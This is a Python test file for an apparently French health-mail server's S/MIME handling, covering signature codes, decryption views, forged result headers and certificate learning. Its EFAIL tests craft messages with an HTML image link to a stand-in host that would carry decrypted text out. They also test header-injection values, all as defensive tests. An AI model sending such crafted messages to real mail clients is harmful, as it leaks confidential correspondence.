"""S/MIME in mail that comes: what stands in the field, what is opened and where it goes, what is left closed, what is learnt."""

from __future__ import annotations

import hashlib
import re
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from support.pki import build_igc
from support.smime_stage import FIELD_KEY, SmimeSpace, mail_key, mail_leaf, smime_space
from support.smtp_stage import ALICE, BOB, NOW, SmtpStage, Wire, build, message, trust_snapshot

from mssante.model.journal import JournalKind
from mssante.model.message import StoredMessage
from mssante.services.smime_header import SmimeResult, find_results, has_field, result_line
from mssante.services.smime_policy import Incoming
from mssante.smime.encrypt import encrypt_message
from mssante.smime.sign import sign_message
from mssante.smime.values import Cipher, SmimeCode
from mssante.storage.interfaces import CertificateSource

AUTHOR = "docteur@a.mssante.fr"
MAIL = f"MAIL FROM:<{AUTHOR}>"
ORIGINALS = "Chiffrés"
HTML = b'<html><img src="http://collecte.invalid/?x='


@pytest.fixture
async def stage(tmp_path: Path) -> AsyncIterator[SmtpStage]:
    made = await build(tmp_path)
    yield made
    await made.close()


@pytest.fixture
def space(stage: SmtpStage, tmp_path: Path) -> SmimeSpace:
    return smime_space(stage, tmp_path / "keys", incoming=Incoming.OPEN)


@pytest.fixture
async def wire(stage: SmtpStage) -> Wire:
    return await stage.session(await stage.open())


async def deliver(wire: Wire, raw: bytes, *to: str) -> str:
    await wire.asks(MAIL, *(f"RCPT TO:<{one}>" for one in to or (ALICE,)))
    return await wire.data(raw)


def signed(raw: bytes | None = None, **how: Any) -> bytes:
    opaque = how.pop("opaque", False)
    return sign_message(raw or message(AUTHOR), mail_key(AUTHOR, **how), opaque=opaque, now=NOW)


def encrypted(raw: bytes, *addresses: str, cipher: Cipher = Cipher.AES256_GCM) -> bytes:
    return encrypt_message(raw, [mail_leaf(one)[0] for one in addresses], cipher=cipher)


def codes(space: SmimeSpace, stored: StoredMessage) -> tuple[str, str]:
    """Signature and encryption of the one field of a message; it must be ours, about these octets."""
    (found,) = space.results(stored)
    assert found.genuine and found.result is not None
    assert found.result.body_sha256 == hashlib.sha256(space.body(stored)).hexdigest()
    return found.result.signature, found.result.encryption


# ------------------------------------------------------------------ signatures


@pytest.mark.parametrize("opaque", [False, True])
async def test_a_valid_signature_is_told_and_the_octets_stay(stage: SmtpStage, space: SmimeSpace, wire: Wire, opaque: bool) -> None:
    raw = signed(opaque=opaque)
    assert (await deliver(wire, raw)).startswith("250 ")
    (stored,) = await stage.inbox()
    assert space.body(stored) == raw and codes(space, stored) == ("SMIME-VALIDE", "SMIME-ABSENT")
    (found,) = space.results(stored)
    assert found.result is not None and found.result.signer == AUTHOR and found.result.trace_id == stored.trace_id
    assert stored.prefix.startswith(b"Return-Path: <docteur@a.mssante.fr>\r\nReceived: ")
    (event,) = await space.events(JournalKind.SMIME_CHECKED)
    assert (event["signature"], event["encryption"], event["certificate"]) == ("SMIME-VALIDE", "SMIME-ABSENT", mail_fingerprint(AUTHOR))


def mail_fingerprint(address: str) -> str:
    from mssante.smime.keys import fingerprint

    return fingerprint(mail_leaf(address)[0])


def altered(raw: bytes) -> bytes:
    return raw.replace(b"Bonjour.", b"Bonsoir.")


@pytest.mark.parametrize(("raw", "code"), [
    (lambda: altered(signed()), "SMIME-ALTERE"),
    (lambda: signed(issuer="personnes"), "SMIME-CHAINE"),
    (lambda: signed(issuer="foreign"), "SMIME-CHAINE"),
    (lambda: signed(issuer="lookalike"), "SMIME-CHAINE"),
    (lambda: signed(not_after=NOW - timedelta(days=1)), "SMIME-EXPIRE"),
    (lambda: signed(not_before=NOW + timedelta(days=1)), "SMIME-EXPIRE"),
    (lambda: sign_message(message(AUTHOR), mail_key("autre@a.mssante.fr"), now=NOW), "SMIME-EXPEDITEUR"),
    (lambda: signed(usage=("key_encipherment",)), "SMIME-USAGE"),
], ids=["altered", "other-authority", "foreign-key", "lookalike", "expired", "early", "other-sender", "usage"])
async def test_a_signature_that_does_not_hold_is_told_with_its_code(
        stage: SmtpStage, space: SmimeSpace, wire: Wire, raw: Any, code: str) -> None:
    octets = raw()
    assert (await deliver(wire, octets)).startswith("250 ")  # never refused for it
    (stored,) = await stage.inbox()
    assert space.body(stored) == octets and codes(space, stored) == (code, "SMIME-ABSENT")
    (found,) = space.results(stored)
    assert found.result is not None and found.result.signer == ""
    assert await space.known(AUTHOR) == []


async def test_revocation_decides_with_the_list_in_force(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    raw = signed(serial=0xBAD)
    await deliver(wire, raw)
    igc = build_igc()
    snapshot = trust_snapshot()
    revoked = igc.crl_set([0xBAD])
    stage.trust.swap(type(snapshot)(snapshot.anchors, revoked, snapshot.peer_policy, snapshot.mode, snapshot.max_age, snapshot.whitelist))
    await deliver(wire, raw)
    assert [codes(space, one)[0] for one in await stage.inbox()] == ["SMIME-VALIDE", "SMIME-REVOQUE"]


async def test_a_revocation_that_cannot_be_told_is_not_good(stage: SmtpStage, space: SmimeSpace) -> None:
    from mssante.trust.crl import CrlSet

    snapshot = stage.trust.snapshot
    stage.trust.swap(type(snapshot)(snapshot.anchors, CrlSet(), snapshot.peer_policy, snapshot.mode, snapshot.max_age, snapshot.whitelist))
    assert space.trust.check_signer(mail_leaf(AUTHOR)[0], (), NOW) is SmimeCode.REVOCATION_UNKNOWN


# ------------------------------------------------------------------ ordinary mail, policies


async def test_ordinary_mail_gets_no_field(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    await deliver(wire, message(AUTHOR))
    mixed = message(AUTHOR, extra="MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n",
                    text="--x\r\nContent-Type: application/octet-stream; name=a.bin\r\n\r\nabc\r\n--x--")
    await deliver(wire, mixed)
    stored = await stage.inbox()
    assert [space.results(one) for one in stored] == [[], []] and await space.events(JournalKind.SMIME_CHECKED) == []
    assert all(b"SMIME" not in one.prefix for one in stored)


async def test_each_mailbox_has_its_own_wish(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    await space.wish(BOB, incoming="off")
    raw = signed()
    await deliver(wire, raw, ALICE, BOB)
    (hers,), (his,) = await stage.inbox(), await stage.inbox(BOB)
    assert codes(space, hers) == ("SMIME-VALIDE", "SMIME-ABSENT") and space.results(his) == []
    assert space.body(hers) == space.body(his) == raw and hers.trace_id == his.trace_id


async def test_off_costs_nothing_and_changes_nothing(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    stage.context.opening = None
    await deliver(wire, signed())
    (stored,) = await stage.inbox()
    assert b"SMIME" not in stored.prefix


# ------------------------------------------------------------------ the field cannot be written by others


async def test_a_field_written_by_somebody_else_stands_below_ours_and_is_told_apart(
        stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    lie = result_line(SmimeResult("SMIME-VALIDE", "SMIME-ABSENT", "0" * 64, NOW, "X" * 26, AUTHOR), b"another key of another op......")
    raw = lie + message(AUTHOR)
    await space.wish(BOB, incoming="off")
    await deliver(wire, raw, ALICE, BOB)
    (hers,), (his,) = await stage.inbox(), await stage.inbox(BOB)
    ours, theirs = space.results(hers)
    assert ours.genuine and ours.result is not None and ours.result.signature == "SMIME-ABSENT"
    assert not theirs.genuine and not theirs.sealed and theirs.result is not None and theirs.result.signature == "SMIME-VALIDE"
    ours, theirs = space.results(his)
    assert ours.genuine and ours.result is not None and (ours.result.signature, ours.result.encryption) == ("-", "-")
    assert space.body(hers) == raw


async def test_our_own_field_does_not_serve_for_another_message(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    await deliver(wire, signed())
    (stored,) = await stage.inbox()
    line = stored.prefix[stored.prefix.index(b"X-MSS-SMIME"):]
    forged = line + message(AUTHOR, text="Autre texte.")
    (found,) = find_results(forged, FIELD_KEY)
    assert found.sealed and not found.intact and not found.genuine
    changed = re.sub(rb"signature=SMIME-VALIDE", b"signature=SMIME-REVOQUE", line) + space.body(stored)
    (found,) = find_results(changed, FIELD_KEY)
    assert found.intact and not found.sealed


@pytest.mark.parametrize("value", [b"", b" ", b"v=2; signature=x", b"v=1; v=1", b"x" * 5000, b"v=1; signature=\xff; s=", b";;;s=====",
                                   b"v=1; signature=a; encryption=b; h=c; t=hier; s=AAAA"])
def test_a_malformed_field_is_never_ours(value: bytes) -> None:
    raw = b"X-MSS-SMIME:" + value + b"\r\nFrom: a@b.fr\r\n\r\nx\r\n"
    found = list(find_results(raw, FIELD_KEY))
    assert [one.genuine for one in found] == [False] and has_field(raw)


def test_values_read_in_a_certificate_cannot_end_a_parameter_or_a_line() -> None:
    result = SmimeResult("SMIME-VALIDE", "SMIME-ABSENT", "a" * 64, NOW, "T", "a;b=c\r\nX: é\"@x.fr", "b" * 64, "Chiffrés 2/3")
    line = result_line(result, FIELD_KEY)
    assert line.isascii() and line.endswith(b"\r\n") and b"\r\nX" not in line and all(len(one) < 200 for one in line.split(b"\r\n"))
    (found,) = find_results(line + b"\r\n", FIELD_KEY)
    assert found.sealed and found.result == result


# ------------------------------------------------------------------ opening


async def test_the_view_goes_to_inbox_and_the_original_stays_octet_for_octet(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    key = await space.give_key(ALICE)
    raw = encrypted(signed(), ALICE)
    await deliver(wire, raw)
    (view,), (original,) = await stage.inbox(), await space.folder_of(ALICE, ORIGINALS)
    assert codes(space, view) == ("SMIME-VALIDE", "SMIME-OUVERT") and codes(space, original) == ("SMIME-ABSENT", "SMIME-CHIFFRE")
    assert space.body(original) == raw and b"Bonjour." in space.body(view) and view.trace_id == original.trace_id
    assert b"Subject: Essai\r\n" in space.body(view) and b"multipart/signed" in space.body(view)
    (found,) = space.results(view)
    assert found.result is not None and found.result.signer == AUTHOR
    assert (found.result.original, found.result.folder) == (hashlib.sha256(raw).hexdigest(), ORIGINALS)
    (event,) = await space.events(JournalKind.SMIME_CHECKED)
    assert (event["encryption"], event["opened"], event["cipher"]) == ("SMIME-OUVERT", 1, "aes256-gcm")
    assert event["key"] == mail_fingerprint(ALICE) and key.certificate is not None and "Bonjour" not in repr(event)
    await deliver(wire, raw)  # the folder is there now
    assert len(await space.folder_of(ALICE, ORIGINALS)) == 2 and len(await stage.inbox()) == 2


async def test_recipients_of_one_message_get_what_each_may_have(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    await space.give_key(ALICE)
    await space.give_key(BOB, incoming="verify")
    raw = encrypted(message(AUTHOR), ALICE, BOB)
    await deliver(wire, raw, ALICE, BOB)
    (hers,), (his,) = await stage.inbox(), await stage.inbox(BOB)
    assert codes(space, hers) == ("SMIME-ABSENT", "SMIME-OUVERT") and codes(space, his) == ("SMIME-ABSENT", "SMIME-CHIFFRE")
    assert space.body(his) == raw and await space.folder_of(BOB, ORIGINALS) == []
    assert [space.body(one) for one in await space.folder_of(ALICE, ORIGINALS)] == [raw]


@pytest.mark.parametrize(("make", "code"), [
    (lambda: encrypted(message(AUTHOR), "autre@b.mssante.fr"), "SMIME-AUTRE-DESTINATAIRE"),
    (lambda: encrypted(message(AUTHOR, text="A" * 5000), ALICE).replace(b"\r\n\r\n", b"\r\n\r\n", 1)[:-200] + b"AAAA\r\n", "SMIME-"),
    (lambda: encrypted(message(AUTHOR, extra="MIME-Version: 1.0\r\nContent-Type: text/html\r\n",
                               text='<img src="http://collecte.invalid/?x=secret">'), ALICE, cipher=Cipher.AES256_CBC), "SMIME-EFAIL"),
    (lambda: encrypted(altered(signed()), ALICE, cipher=Cipher.AES256_CBC), "SMIME-EFAIL"),
    (lambda: efail_direct(), "SMIME-EFAIL"),
], ids=["other-recipient", "cut", "html-cbc", "altered-cbc", "clear-around"])
async def test_what_must_not_be_shown_stays_closed_in_inbox_with_its_code(
        stage: SmtpStage, space: SmimeSpace, wire: Wire, make: Any, code: str) -> None:
    await space.give_key(ALICE)
    raw = make()
    assert (await deliver(wire, raw)).startswith("250 ")
    (stored,) = await stage.inbox()
    assert space.body(stored) == raw and await space.folder_of(ALICE, ORIGINALS) == []
    found = codes(space, stored)[1]
    assert found.startswith(code) and found not in ("SMIME-OUVERT", "SMIME-ABSENT")


def efail_direct() -> bytes:
    """An encrypted part between two clear HTML parts that would send its text away."""
    head, _, body = encrypted(message(AUTHOR), ALICE).partition(b"\r\n\r\n")
    fields = head.replace(b"\r\n\t", b" ").replace(b"\r\n ", b" ").split(b"\r\n")
    inner = b"\r\n".join(line for line in fields if line.lower().startswith(b"content-"))
    outer = b"\r\n".join(line for line in fields if not line.lower().startswith((b"content-", b"mime-version")))
    html = b"--x\r\nContent-Type: text/html\r\n\r\n" + HTML + b"\r\n"
    return (outer + b"\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" + html
            + b"--x\r\n" + inner + b"\r\n\r\n" + body + b"\r\n" + html + b"--x--\r\n")


async def test_an_authenticated_view_is_shown_even_when_its_signature_is_altered(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    await space.give_key(ALICE)
    await deliver(wire, encrypted(altered(signed()), ALICE))
    (view,) = await stage.inbox()
    assert codes(space, view) == ("SMIME-ALTERE", "SMIME-OUVERT")


async def test_a_mailbox_without_key_keeps_what_is_encrypted(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    await deliver(wire, encrypted(message(AUTHOR), ALICE))
    (stored,) = await stage.inbox()
    assert codes(space, stored) == ("SMIME-ABSENT", "SMIME-CHIFFRE")


async def test_a_key_that_cannot_be_read_loses_nothing(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    await space.give_key(ALICE)
    (space.folder / f"{ALICE}.pem").chmod(0o644)
    raw = encrypted(message(AUTHOR), ALICE)
    assert (await deliver(wire, raw)).startswith("250 ")
    (stored,) = await stage.inbox()
    assert space.body(stored) == raw and codes(space, stored)[1] == "SMIME-CHIFFRE"
    (space.folder / f"{ALICE}.pem").chmod(0o600)
    await deliver(wire, raw)
    assert codes(space, (await stage.inbox())[1])[1] == "SMIME-OUVERT"


async def test_an_older_key_still_opens(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    from support.smime_stage import put_key

    old = put_key(space.folder, "ancienne.pem", *mail_leaf(ALICE))
    new = put_key(space.folder, "nouvelle.pem", *mail_leaf(f"neuve-{ALICE}"))
    await space.wish(ALICE, keys=(new, old))
    await deliver(wire, encrypted(message(AUTHOR), ALICE))
    assert codes(space, (await stage.inbox())[0])[1] == "SMIME-OUVERT"


async def test_the_folder_of_originals_may_vanish_at_any_moment(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    await space.give_key(ALICE)
    raw = encrypted(message(AUTHOR), ALICE)
    await deliver(wire, raw)

    def remove(tx: Any) -> None:
        (found,) = [one for one in stage.stores.folders.of_mailbox(tx, stage.mailboxes[ALICE].id) if one.name == ORIGINALS]
        stage.stores.folders.delete(tx, found.id)

    await stage.stores.database.write(remove)
    assert (await deliver(wire, raw)).startswith("250 ")
    assert [space.body(one) for one in await space.folder_of(ALICE, ORIGINALS)] == [raw]


async def test_large_messages_go_through_files(stage: SmtpStage, space: SmimeSpace, tmp_path: Path) -> None:
    wire = await stage.session(await stage.open(message_bytes=1 << 22))
    await space.give_key(ALICE)
    raw = encrypted(signed(message(AUTHOR, text="\r\n".join(["Ligne de texte clair." * 3] * 8000))), ALICE)
    assert (await deliver(wire, raw)).startswith("250 ")
    (view,), (original,) = await stage.inbox(), await space.folder_of(ALICE, ORIGINALS)
    assert view.blob and original.blob and space.body(original) == raw
    assert codes(space, view) == ("SMIME-VALIDE", "SMIME-OUVERT") and b"Ligne de texte clair." in space.body(view)
    assert list((tmp_path / "blobs" / "staging").iterdir()) == []


async def test_a_failure_of_ours_never_refuses_a_message(stage: SmtpStage, space: SmimeSpace, wire: Wire, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: Any, **__: Any) -> None:
        raise RuntimeError("defect")

    await space.give_key(ALICE)
    monkeypatch.setattr("mssante.services.opening.verify_message", fails)
    raw = signed()
    assert (await deliver(wire, raw)).startswith("250 ")
    (stored,) = await stage.inbox()
    assert space.body(stored) == raw and codes(space, stored)[0] == "SMIME-ILLISIBLE"


# ------------------------------------------------------------------ learning


async def test_certificates_are_learnt_from_valid_mail_alone(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    await deliver(wire, signed())
    (known,) = await space.known(AUTHOR)
    assert known.source is CertificateSource.LEARNT and known.fingerprint == mail_fingerprint(AUTHOR) and known.first_seen == NOW
    (event,) = await space.events(JournalKind.SMIME_CERTIFICATE)
    assert event["action"] == "learnt"
    stage.clock.advance(timedelta(days=2))
    await deliver(wire, signed())
    (again,) = await space.known(AUTHOR)
    assert again.first_seen == NOW and again.last_seen == NOW + timedelta(days=2)
    assert len(await space.events(JournalKind.SMIME_CERTIFICATE)) == 1


async def test_nothing_is_learnt_when_told_so(stage: SmtpStage, space: SmimeSpace, wire: Wire) -> None:
    space.build(learnt=0)
    await deliver(wire, signed())
    assert await space.known(AUTHOR) == []
